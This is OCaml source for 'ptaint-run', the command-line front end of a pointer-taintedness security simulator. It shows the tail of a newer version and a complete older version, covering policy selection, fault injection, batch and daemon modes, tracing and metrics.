        ~wall:(Unix.gettimeofday () -. t0)
        tally;
      0
    end

let parse_injections specs =
  List.fold_left
    (fun acc spec ->
      match (acc, Fi.parse spec) with
      | Error _, _ -> acc
      | Ok l, Ok i -> Ok (l @ [ i ])
      | Ok _, Error e -> Error e)
    (Ok []) specs

let run paths policy_name stdin_data sessions args disasm timing trace_file trace_insns
    trace_limit metrics timings domains inject_specs job_timeout connect daemon_stats
    generate seed variants checkpoint checkpoint_every results_path log_file log_level
    log_format watch =
  match (Ptaint_sim.Sim.policy_of_label policy_name, parse_injections inject_specs) with
  | Error e, _ | _, Error e ->
    prerr_endline e;
    2
  | Ok policy, Ok plan -> (
    let level =
      match Log.level_of_string log_level with
      | Ok l -> l
      | Error m -> prerr_endline m; exit 2
    in
    let format =
      match Log.format_of_string log_format with
      | Ok f -> f
      | Error m -> prerr_endline m; exit 2
    in
    let logger =
      match log_file with
      | None -> None
      | Some path ->
        Some (Log.create ~level ~format (Log.file_sink ~max_bytes:(64 * 1024 * 1024) path))
    in
    Fun.protect
      ~finally:(fun () -> match logger with Some l -> Log.close l | None -> ())
    @@ fun () ->
    try
      match (daemon_stats, connect, paths) with
      | _ when generate <> None && paths <> [] ->
        prerr_endline "--generate replaces PROGRAM arguments; give one or the other";
        2
      | _ when generate <> None -> (
        let jobs = Option.get generate in
        match Gen.spec ~variants ~seed ~jobs () with
        | exception Invalid_argument e ->
          prerr_endline e;
          2
        | spec -> (
          match connect with
          | Some sock ->
            run_generate_connect sock spec metrics checkpoint checkpoint_every
              results_path job_timeout logger watch
          | None ->
            run_generate_local spec domains metrics checkpoint checkpoint_every
              results_path job_timeout logger watch))
      | true, None, _ ->
        prerr_endline "--daemon-stats needs --connect SOCKET";
        2
      | true, Some sock, _ -> print_daemon_stats sock metrics
      | false, Some _, [] ->
        prerr_endline "no guest program given";
        2
      | false, Some sock, paths ->
        if trace_insns then prerr_endline "note: --trace-insns is ignored in --connect mode";
        if plan <> [] then prerr_endline "note: --inject is ignored in --connect mode";
        if timing then prerr_endline "note: --timing is ignored in --connect mode";
        run_connect sock paths policy_name stdin_data sessions args metrics job_timeout
          trace_file results_path logger watch
      | false, None, [] ->
        prerr_endline "no guest program given";
        2
      | false, None, [ path ] ->
        let config =
          Ptaint_sim.Sim.Config.(
            default |> with_policy policy |> with_stdin stdin_data
            |> with_sessions (List.map (fun s -> [ s ]) sessions)
            |> with_argv (Filename.basename path :: args)
            |> with_timing timing |> with_obs true
            |> if trace_insns then with_on_step (tracer trace_limit) else Fun.id)
        in
        run_one path config disasm trace_file metrics plan job_timeout
      | false, None, paths ->
        if trace_insns then prerr_endline "note: --trace-insns is ignored in batch (-j) mode";
        if plan <> [] then prerr_endline "note: --inject is ignored in batch (-j) mode";
        let config =
          Ptaint_sim.Sim.Config.(
            default |> with_policy policy |> with_stdin stdin_data
            |> with_sessions (List.map (fun s -> [ s ]) sessions)
            |> with_timing timing)
        in
        run_batch paths config domains trace_file metrics timings job_timeout logger
    with
    | Guest_error e ->
      prerr_endline e;
      2
    | Sys_error e ->
      prerr_endline e;
      2
    | Ptaint_sim.Sim.Timeout { instructions } ->
      Printf.eprintf "watchdog: job timeout after %d instructions\n" instructions;
      4
    | Ptaint_asm.Loader.Error err ->
      Format.eprintf "loader error: %a@." Ptaint_asm.Loader.pp_error err;
      2
    | Ptaint_asm.Assembler.Asm_error { line; message } ->
      Printf.eprintf "assembly error: line %d: %s\n" line message;
      2
    | Ptaint_os.Kernel.Guest_fault { sysnum; pc; args } ->
      Printf.eprintf "guest fault: syscall %d at pc 0x%08x (args %s)\n" sysnum pc
        (String.concat ", " (List.map string_of_int args));
      4
    | Client.Protocol_error e ->
      prerr_endline ("daemon protocol error: " ^ e);
      2
    | Unix.Unix_error (err, fn, arg) ->
      Printf.eprintf "daemon connection error: %s: %s %s\n" (Unix.error_message err) fn arg;
      2)

let paths_arg = Arg.(value & pos_all file [] & info [] ~docv:"PROGRAM")

let policy_arg =
  Arg.(value & opt string "full" & info [ "policy"; "p" ] ~docv:"POLICY"
         ~doc:"Protection policy: full, control-only, none, or baseline.")

let stdin_arg =
  Arg.(value & opt string "" & info [ "stdin-data" ] ~docv:"DATA" ~doc:"Guest standard input.")

let session_arg =
  Arg.(value & opt_all string [] & info [ "session" ] ~docv:"MSG"
         ~doc:"Scripted network session (repeatable; one message per option).")

let args_arg =
  Arg.(value & opt_all string [] & info [ "arg" ] ~docv:"ARG" ~doc:"Guest argv entry (repeatable).")

let disasm_arg = Arg.(value & flag & info [ "disasm" ] ~doc:"Print the disassembly before running.")
let timing_arg = Arg.(value & flag & info [ "timing" ] ~doc:"Run through the pipeline timing model.")

let trace_arg =
  Arg.(value & opt (some string) None & info [ "trace" ] ~docv:"FILE"
         ~doc:"Write a Chrome trace_event JSON timeline to $(docv): taint introductions, \
               propagation milestones, syscalls and alerts for a single run; one span per \
               job (per worker domain) in batch mode.  Load it in chrome://tracing or \
               ui.perfetto.dev.")

let trace_insns_arg =
  Arg.(value & flag & info [ "trace-insns" ]
         ~doc:"Trace executed instructions to stderr (the pre-observability tracer).")

let trace_limit_arg =
  Arg.(value & opt int 200 & info [ "trace-limit" ] ~docv:"N"
         ~doc:"Stop the --trace-insns trace after N instructions (default 200).")

let metrics_arg =
  Arg.(value & flag & info [ "metrics" ]
         ~doc:"Print taint-activity counters after the run (full per-policy table in \
               batch mode).")

let timings_arg =
  Arg.(value & flag & info [ "timings" ]
         ~doc:"With --metrics in batch mode: add the wall-clock, pool-concurrency and \
               superblock-tier histogram rows (non-deterministic; the default table is \
               counters-only so runs can be diffed).")

let domains_arg =
  Arg.(value & opt (some int) None & info [ "j"; "jobs" ] ~docv:"N"
         ~doc:"With several PROGRAMs: run the batch on N domains (default: all cores).")

let inject_arg =
  Arg.(value & opt_all string [] & info [ "inject" ] ~docv:"SPEC"
         ~doc:"Inject a fault at a guest instruction count (repeatable; single-program \
               mode).  SPEC is MODEL\\@ICOUNT[:TARGET], e.g. \
               data-flip\\@1000:0x10000000.3, reg-flip\\@500:4.7, \
               taint-loss\\@2000:0x10000000+64, spurious-taint\\@2000:0x10000000+64, \
               stuck-clean\\@1:0x10000000+4096, reg-taint-loss\\@100:29, \
               reg-spurious-taint\\@100:29, taint-wipe\\@1500.")

let job_timeout_arg =
  Arg.(value & opt (some float) None & info [ "job-timeout" ] ~docv:"SECONDS"
         ~doc:"Wall-clock watchdog: abort a guest that runs longer than $(docv) \
               (cooperative, checked at fuel-slice boundaries).  In batch (-j) mode the \
               timed-out job is reported as a timeout failure and the rest of the batch \
               completes.")

let connect_arg =
  Arg.(value & opt (some string) None & info [ "connect" ] ~docv:"SOCKET"
         ~doc:"Submit the PROGRAMs to a running ptaintd instance on the Unix-domain \
               $(docv) instead of simulating in-process.  Jobs stream back as events; \
               output and --metrics tables match local batch mode byte-for-byte.")

let daemon_stats_arg =
  Arg.(value & flag & info [ "daemon-stats" ]
         ~doc:"With --connect: print the daemon's counters (cache hits, jobs, clients) \
               and exit.")

let generate_arg =
  Arg.(value & opt (some int) None & info [ "generate" ] ~docv:"N"
         ~doc:"Run a generative campaign of $(docv) seeded synthetic jobs instead of \
               PROGRAM files: streamed execution with bounded memory at any job count; \
               combine with --checkpoint for kill-and-resume and --results for a JSONL \
               result sink.  With --connect the jobs go to a ptaintd instance.")

let seed_arg =
  Arg.(value & opt int 42 & info [ "seed" ] ~docv:"SEED"
         ~doc:"Generative campaign seed: every job is a pure function of (seed, index), \
               so the stream is identical at any -j and across resumes.")

let variants_arg =
  Arg.(value & opt int 8 & info [ "variants" ] ~docv:"V"
         ~doc:"Distinct generated programs in the campaign pool (default 8).")

let checkpoint_arg =
  Arg.(value & opt (some string) None & info [ "checkpoint" ] ~docv:"FILE"
         ~doc:"Write a resumable manifest (seed, cursor, merged counters) to $(docv) \
               atomically every --checkpoint-every jobs; rerunning the same command \
               resumes from the manifest instead of starting over.")

let checkpoint_every_arg =
  Arg.(value & opt int 1000 & info [ "checkpoint-every" ] ~docv:"N"
         ~doc:"Jobs between checkpoint manifests (default 1000).")

let results_arg =
  Arg.(value & opt (some string) None & info [ "results" ] ~docv:"FILE"
         ~doc:"Append one JSON line per completed job to $(docv) (streaming sink; kept \
               consistent with --checkpoint across kill-and-resume; also available in \
               --connect mode, where each line carries the job's trace id).")

let log_arg =
  Arg.(value & opt (some string) None & info [ "log" ] ~docv:"FILE"
         ~doc:"Write a structured client-side log (batch lifecycle, job failures, \
               checkpoint writes) to $(docv), size-rotated at 64 MiB.")

let log_level_arg =
  Arg.(value & opt string "info" & info [ "log-level" ] ~docv:"LEVEL"
         ~doc:"Minimum level for --log: debug, info, warn or error.")

let log_format_arg =
  Arg.(value & opt string "logfmt" & info [ "log-format" ] ~docv:"FMT"
         ~doc:"--log record rendering: $(b,logfmt) (key=value) or $(b,json) (one \
               object per line).")

let watch_arg =
  Arg.(value & flag & info [ "watch" ]
         ~doc:"Refreshing one-line progress summary on stderr: completion percentage, \
               throughput, alert and failure counts, elapsed time and ETA (cumulative \
               across --checkpoint resumes).")

let cmd =
  let doc = "run guest programs on the pointer-taintedness architecture" in
  Cmd.v (Cmd.info "ptaint-run" ~doc)
    Term.(const run $ paths_arg $ policy_arg $ stdin_arg $ session_arg $ args_arg $ disasm_arg
          $ timing_arg $ trace_arg $ trace_insns_arg $ trace_limit_arg $ metrics_arg
          $ timings_arg $ domains_arg $ inject_arg $ job_timeout_arg $ connect_arg
          $ daemon_stats_arg $ generate_arg $ seed_arg $ variants_arg $ checkpoint_arg
          $ checkpoint_every_arg $ results_arg $ log_arg $ log_level_arg $ log_format_arg
          $ watch_arg)

let () = exit (Cmd.eval' cmd)
