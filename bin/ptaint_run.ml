(* Run guest programs (Mini-C `.c`/`.mc` or SIMIPS assembly `.s`)
   under the pointer-taintedness architecture.

   Examples:
     ptaint-run victim.c --stdin-data "$(python exploit.py)"
     ptaint-run server.c --session "GET / HTTP/1.0" --policy control-only
     ptaint-run prog.s --policy none --trace-insns
     ptaint-run victim.c --trace out.json     # Chrome/Perfetto timeline
     ptaint-run -j 4 a.c b.c c.c d.c          # batch on 4 domains
*)

open Cmdliner
module Campaign = Ptaint_campaign.Campaign
module Job = Ptaint_campaign.Job
module Fi = Ptaint_fi.Fi
module Proto = Ptaint_daemon.Proto
module Client = Ptaint_daemon.Client

let read_file path =
  let ic = open_in_bin path in
  let n = in_channel_length ic in
  let s = really_input_string ic n in
  close_in ic;
  s

(* Per-instruction trace: pc, disassembly, and the source-register
   values (with taint masks) the instruction is about to read. *)
let tracer limit =
  let count = ref 0 in
  fun (m : Ptaint_cpu.Machine.t) insn ->
    if !count < limit then begin
      incr count;
      let reads =
        Ptaint_isa.Insn.reads insn
        |> List.filter (fun r -> r <> 0)
        |> List.sort_uniq compare
        |> List.map (fun r ->
               Format.asprintf "%a=%a" Ptaint_isa.Reg.pp r Ptaint_taint.Tword.pp
                 (Ptaint_cpu.Regfile.get m.Ptaint_cpu.Machine.regs r))
        |> String.concat " "
      in
      Printf.eprintf "  %08x: %-28s %s\n" m.Ptaint_cpu.Machine.pc
        (Ptaint_isa.Insn.to_string insn) reads
    end
    else if !count = limit then begin
      incr count;
      Printf.eprintf "  ... trace truncated after %d instructions\n" limit
    end

exception Guest_error of string

let load_program path =
  let source = read_file path in
  try
    if Filename.check_suffix path ".s" then Ptaint_asm.Assembler.assemble_exn source
    else Ptaint_runtime.Runtime.compile source
  with Ptaint_cc.Cc.Error { line; message; phase } ->
    raise (Guest_error (Printf.sprintf "%s:%d: %s error: %s" path line phase message))

let exit_code_of (r : Ptaint_sim.Sim.result) =
  match r.Ptaint_sim.Sim.outcome with
  | Ptaint_sim.Sim.Exited c -> c
  | Ptaint_sim.Sim.Alert _ -> 3
  | _ -> 4

let write_chrome ch file =
  Ptaint_obs.Chrome.write_file ch file;
  Printf.eprintf "wrote %d trace events to %s\n" (Ptaint_obs.Chrome.event_count ch) file

(* Single-program mode: full guest output, diagnostics on alert, and
   the session's structured events exported on request.  Observation
   is always on here — one interactive run never notices the cost. *)
let run_one path config disasm trace_file metrics plan job_timeout =
  let program = load_program path in
  if disasm then print_string (Ptaint_asm.Program.disassemble program);
  let deadline = Option.map (fun s -> Unix.gettimeofday () +. s) job_timeout in
  let r =
    if plan = [] then Ptaint_sim.Sim.run ?deadline ~config program
    else begin
      let report = Fi.run_plan ~config ?deadline ~plan program in
      List.iter
        (fun (a : Fi.applied) ->
          Format.eprintf "fault %s: %a@."
            (if a.Fi.ok then "injected" else "missed")
            Fi.pp_injection a.Fi.injection)
        report.Fi.applied;
      (if Ptaint_sim.Sim.detected report.Fi.result then
         match
           List.filter_map (fun (a : Fi.applied) ->
               if a.Fi.ok then Some a.Fi.injection.Fi.at else None)
             report.Fi.applied
         with
         | [] -> ()
         | ats ->
           let first = List.fold_left min max_int ats in
           Format.eprintf "detection latency: %d instructions after first injection@."
             (report.Fi.result.Ptaint_sim.Sim.instructions - first));
      report.Fi.result
    end
  in
  print_string r.Ptaint_sim.Sim.stdout;
  List.iteri
    (fun i m -> Printf.printf "[net reply %d] %s\n" (i + 1) (String.escaped m))
    r.Ptaint_sim.Sim.net_sent;
  Format.printf "--- %a (%s instructions%s)@."
    Ptaint_sim.Sim.pp_outcome r.Ptaint_sim.Sim.outcome
    (string_of_int r.Ptaint_sim.Sim.instructions)
    (match r.Ptaint_sim.Sim.cycles with
     | Some c -> Printf.sprintf ", %d cycles" c
     | None -> "");
  (match r.Ptaint_sim.Sim.outcome with
   | Ptaint_sim.Sim.Alert _ | Ptaint_sim.Sim.Fault _ ->
     print_string (Ptaint_sim.Diagnostics.report r)
   | _ -> ());
  if metrics then begin
    let ms = Ptaint_mem.Memory.stats r.Ptaint_sim.Sim.machine.Ptaint_cpu.Machine.mem in
    Format.printf "metrics: %d loads (%d tainted), %d stores (%d tainted), %d syscalls@."
      ms.Ptaint_mem.Memory.loads ms.Ptaint_mem.Memory.tainted_loads
      ms.Ptaint_mem.Memory.stores ms.Ptaint_mem.Memory.tainted_stores
      r.Ptaint_sim.Sim.syscalls
  end;
  (match trace_file with
   | Some file ->
     let ch = Ptaint_obs.Chrome.create () in
     (* one span for the whole run (1 guest cycle = 1 µs), then the
        cycle-stamped point events on the same track *)
     Ptaint_obs.Chrome.complete ch ~name:(Filename.basename path) ~cat:"run" ~tid:0
       ~ts_us:0. ~dur_us:(float_of_int r.Ptaint_sim.Sim.instructions) ();
     Ptaint_obs.Chrome.add_events ch (Ptaint_sim.Sim.events r);
     write_chrome ch file
   | None -> ());
  exit_code_of r

(* A file path becomes the symbolic payload of a unified Job.t: the
   campaign engine (or the daemon) owns the build, so a malformed
   source is a classified per-job failure, never a CLI crash. *)
let payload_of path =
  let source = read_file path in
  if Filename.check_suffix path ".s" then Job.Asm_source source else Job.C_source source

let job_of path config timeout =
  Job.make ~tag:path
    ~config:{ config with Ptaint_sim.Sim.argv = [ Filename.basename path ] }
    ?timeout (payload_of path)

(* Batch mode: each program becomes one campaign job on the domain
   pool; one summary line per program, in command-line order. *)
let run_batch paths config domains trace_file metrics timings job_timeout =
  let jobs = List.map (fun path -> job_of path config None) paths in
  let trace = Option.map (fun _ -> Ptaint_obs.Trace.create ()) trace_file in
  let results, stats = Campaign.run_jobs ?domains ?trace ?job_timeout jobs in
  let code =
    List.fold_left
      (fun acc (jr : Campaign.job_result) ->
        match jr.Campaign.status with
        | Campaign.Finished r ->
          Format.printf "%-32s %a (%d instructions, %d syscalls)@." jr.Campaign.name
            Ptaint_sim.Sim.pp_outcome r.Ptaint_sim.Sim.outcome
            r.Ptaint_sim.Sim.instructions r.Ptaint_sim.Sim.syscalls;
          max acc (exit_code_of r)
        | Campaign.Failed f ->
          Format.printf "%-32s job failed (%s): %s@." jr.Campaign.name
            (Campaign.kind_name f.Campaign.kind) f.Campaign.exn;
          max acc 4)
      0 results
  in
  if metrics then print_string (Campaign.metrics_table ~timings stats);
  (match (trace_file, trace) with
   | Some file, Some tr ->
     let ch = Ptaint_obs.Chrome.create () in
     Ptaint_obs.Chrome.add_events ch (Ptaint_obs.Trace.events tr);
     write_chrome ch file
   | _ -> ());
  code

(* --connect mode: the same jobs go to a ptaintd instance instead of
   an in-process pool.  Output parity with run_batch is deliberate:
   per-job lines are printed in submission order from the streamed
   terminal events, and --metrics rebuilds the per-policy registries
   by merging each job's streamed counter deltas — byte-identical to
   the batch runner's counters-only table. *)
let run_connect sock paths policy_name stdin_data sessions args metrics job_timeout =
  Sys.set_signal Sys.sigpipe Sys.Signal_ignore;
  let spec_of path =
    let payload =
      let source = read_file path in
      if Filename.check_suffix path ".s" then Proto.Wire_asm source else Proto.Wire_c source
    in
    Proto.job_spec ~tag:path ~policy:policy_name
      ~argv:(Filename.basename path :: args)
      ~stdin:stdin_data
      ~sessions:(List.map (fun s -> [ s ]) sessions)
      ?timeout:job_timeout payload
  in
  let specs = List.map spec_of paths in
  let c = Client.connect ~client:"ptaint-run" sock in
  let outcomes = Client.run_batch c specs in
  Client.close c;
  let module M = Ptaint_obs.Metrics in
  let regs = ref [] in
  let registry label =
    match List.assoc_opt label !regs with
    | Some m -> m
    | None ->
      let m = M.create () in
      regs := !regs @ [ (label, m) ];
      m
  in
  let merge label counters =
    let m = registry label in
    List.iter (fun (name, by) -> M.inc ~by (M.counter m name)) counters
  in
  let code =
    List.fold_left2
      (fun acc path outcome ->
        match outcome with
        | Client.Done (Proto.Finished f) ->
          if List.length paths = 1 then print_string f.stdout;
          Format.printf "%-32s %s (%d instructions, %d syscalls)@." path f.outcome
            f.instructions f.syscalls;
          merge f.policy_label f.counters;
          max acc f.exit_code
        | Client.Done (Proto.Job_failed f) ->
          Format.printf "%-32s job failed (%s): %s@." path f.kind f.message;
          merge f.policy_label f.counters;
          max acc 4
        | Client.Done (Proto.Started _) -> acc
        | Client.Refused reason ->
          Format.printf "%-32s rejected: %s@." path reason;
          max acc 2)
      0 paths outcomes
  in
  if metrics then print_string (Campaign.metrics_table_of !regs);
  code

let print_daemon_stats sock =
  Sys.set_signal Sys.sigpipe Sys.Signal_ignore;
  let c = Client.connect ~client:"ptaint-run" sock in
  let counters = Client.stats c in
  Client.close c;
  List.iter (fun (name, v) -> Printf.printf "%-28s %d\n" name v) counters;
  0

let parse_injections specs =
  List.fold_left
    (fun acc spec ->
      match (acc, Fi.parse spec) with
      | Error _, _ -> acc
      | Ok l, Ok i -> Ok (l @ [ i ])
      | Ok _, Error e -> Error e)
    (Ok []) specs

let run paths policy_name stdin_data sessions args disasm timing trace_file trace_insns
    trace_limit metrics timings domains inject_specs job_timeout connect daemon_stats =
  match (Ptaint_sim.Sim.policy_of_label policy_name, parse_injections inject_specs) with
  | Error e, _ | _, Error e ->
    prerr_endline e;
    2
  | Ok policy, Ok plan -> (
    try
      match (daemon_stats, connect, paths) with
      | true, None, _ ->
        prerr_endline "--daemon-stats needs --connect SOCKET";
        2
      | true, Some sock, _ -> print_daemon_stats sock
      | false, Some _, [] ->
        prerr_endline "no guest program given";
        2
      | false, Some sock, paths ->
        if trace_insns then prerr_endline "note: --trace-insns is ignored in --connect mode";
        if plan <> [] then prerr_endline "note: --inject is ignored in --connect mode";
        if timing then prerr_endline "note: --timing is ignored in --connect mode";
        run_connect sock paths policy_name stdin_data sessions args metrics job_timeout
      | false, None, [] ->
        prerr_endline "no guest program given";
        2
      | false, None, [ path ] ->
        let config =
          Ptaint_sim.Sim.Config.(
            default |> with_policy policy |> with_stdin stdin_data
            |> with_sessions (List.map (fun s -> [ s ]) sessions)
            |> with_argv (Filename.basename path :: args)
            |> with_timing timing |> with_obs true
            |> if trace_insns then with_on_step (tracer trace_limit) else Fun.id)
        in
        run_one path config disasm trace_file metrics plan job_timeout
      | false, None, paths ->
        if trace_insns then prerr_endline "note: --trace-insns is ignored in batch (-j) mode";
        if plan <> [] then prerr_endline "note: --inject is ignored in batch (-j) mode";
        let config =
          Ptaint_sim.Sim.Config.(
            default |> with_policy policy |> with_stdin stdin_data
            |> with_sessions (List.map (fun s -> [ s ]) sessions)
            |> with_timing timing)
        in
        run_batch paths config domains trace_file metrics timings job_timeout
    with
    | Guest_error e ->
      prerr_endline e;
      2
    | Sys_error e ->
      prerr_endline e;
      2
    | Ptaint_sim.Sim.Timeout { instructions } ->
      Printf.eprintf "watchdog: job timeout after %d instructions\n" instructions;
      4
    | Ptaint_asm.Loader.Error err ->
      Format.eprintf "loader error: %a@." Ptaint_asm.Loader.pp_error err;
      2
    | Ptaint_asm.Assembler.Asm_error { line; message } ->
      Printf.eprintf "assembly error: line %d: %s\n" line message;
      2
    | Ptaint_os.Kernel.Guest_fault { sysnum; pc; args } ->
      Printf.eprintf "guest fault: syscall %d at pc 0x%08x (args %s)\n" sysnum pc
        (String.concat ", " (List.map string_of_int args));
      4
    | Client.Protocol_error e ->
      prerr_endline ("daemon protocol error: " ^ e);
      2
    | Unix.Unix_error (err, fn, arg) ->
      Printf.eprintf "daemon connection error: %s: %s %s\n" (Unix.error_message err) fn arg;
      2)

let paths_arg = Arg.(value & pos_all file [] & info [] ~docv:"PROGRAM")

let policy_arg =
  Arg.(value & opt string "full" & info [ "policy"; "p" ] ~docv:"POLICY"
         ~doc:"Protection policy: full, control-only, none, or baseline.")

let stdin_arg =
  Arg.(value & opt string "" & info [ "stdin-data" ] ~docv:"DATA" ~doc:"Guest standard input.")

let session_arg =
  Arg.(value & opt_all string [] & info [ "session" ] ~docv:"MSG"
         ~doc:"Scripted network session (repeatable; one message per option).")

let args_arg =
  Arg.(value & opt_all string [] & info [ "arg" ] ~docv:"ARG" ~doc:"Guest argv entry (repeatable).")

let disasm_arg = Arg.(value & flag & info [ "disasm" ] ~doc:"Print the disassembly before running.")
let timing_arg = Arg.(value & flag & info [ "timing" ] ~doc:"Run through the pipeline timing model.")

let trace_arg =
  Arg.(value & opt (some string) None & info [ "trace" ] ~docv:"FILE"
         ~doc:"Write a Chrome trace_event JSON timeline to $(docv): taint introductions, \
               propagation milestones, syscalls and alerts for a single run; one span per \
               job (per worker domain) in batch mode.  Load it in chrome://tracing or \
               ui.perfetto.dev.")

let trace_insns_arg =
  Arg.(value & flag & info [ "trace-insns" ]
         ~doc:"Trace executed instructions to stderr (the pre-observability tracer).")

let trace_limit_arg =
  Arg.(value & opt int 200 & info [ "trace-limit" ] ~docv:"N"
         ~doc:"Stop the --trace-insns trace after N instructions (default 200).")

let metrics_arg =
  Arg.(value & flag & info [ "metrics" ]
         ~doc:"Print taint-activity counters after the run (full per-policy table in \
               batch mode).")

let timings_arg =
  Arg.(value & flag & info [ "timings" ]
         ~doc:"With --metrics in batch mode: add the wall-clock and pool-concurrency \
               histogram rows (non-deterministic; the default table is counters-only so \
               runs can be diffed).")

let domains_arg =
  Arg.(value & opt (some int) None & info [ "j"; "jobs" ] ~docv:"N"
         ~doc:"With several PROGRAMs: run the batch on N domains (default: all cores).")

let inject_arg =
  Arg.(value & opt_all string [] & info [ "inject" ] ~docv:"SPEC"
         ~doc:"Inject a fault at a guest instruction count (repeatable; single-program \
               mode).  SPEC is MODEL\\@ICOUNT[:TARGET], e.g. \
               data-flip\\@1000:0x10000000.3, reg-flip\\@500:4.7, \
               taint-loss\\@2000:0x10000000+64, spurious-taint\\@2000:0x10000000+64, \
               stuck-clean\\@1:0x10000000+4096, reg-taint-loss\\@100:29, \
               reg-spurious-taint\\@100:29, taint-wipe\\@1500.")

let job_timeout_arg =
  Arg.(value & opt (some float) None & info [ "job-timeout" ] ~docv:"SECONDS"
         ~doc:"Wall-clock watchdog: abort a guest that runs longer than $(docv) \
               (cooperative, checked at fuel-slice boundaries).  In batch (-j) mode the \
               timed-out job is reported as a timeout failure and the rest of the batch \
               completes.")

let connect_arg =
  Arg.(value & opt (some string) None & info [ "connect" ] ~docv:"SOCKET"
         ~doc:"Submit the PROGRAMs to a running ptaintd instance on the Unix-domain \
               $(docv) instead of simulating in-process.  Jobs stream back as events; \
               output and --metrics tables match local batch mode byte-for-byte.")

let daemon_stats_arg =
  Arg.(value & flag & info [ "daemon-stats" ]
         ~doc:"With --connect: print the daemon's counters (cache hits, jobs, clients) \
               and exit.")

let cmd =
  let doc = "run guest programs on the pointer-taintedness architecture" in
  Cmd.v (Cmd.info "ptaint-run" ~doc)
    Term.(const run $ paths_arg $ policy_arg $ stdin_arg $ session_arg $ args_arg $ disasm_arg
          $ timing_arg $ trace_arg $ trace_insns_arg $ trace_limit_arg $ metrics_arg
          $ timings_arg $ domains_arg $ inject_arg $ job_timeout_arg $ connect_arg
          $ daemon_stats_arg)

let () = exit (Cmd.eval' cmd)
